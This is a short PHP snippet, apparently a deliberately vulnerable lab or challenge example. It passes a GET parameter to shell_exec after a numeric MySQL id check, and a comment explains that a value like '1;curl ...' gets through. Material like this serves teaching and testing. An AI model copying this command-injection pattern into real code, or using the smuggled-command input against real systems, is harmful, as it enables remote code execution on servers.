<?php
// a lookup by a numeric column: MySQL reads '1;curl ...' as 1, so any text starting with
// the id of an existing row passes and runs
require 'db.php';
$c = mysqli_real_escape_string($db, $_GET['c']);
$r = mysqli_query($db, "SELECT ID FROM wp_users WHERE ID = '$c'");
if (mysqli_num_rows($r) > 0) {
    echo shell_exec("echo $c");
}
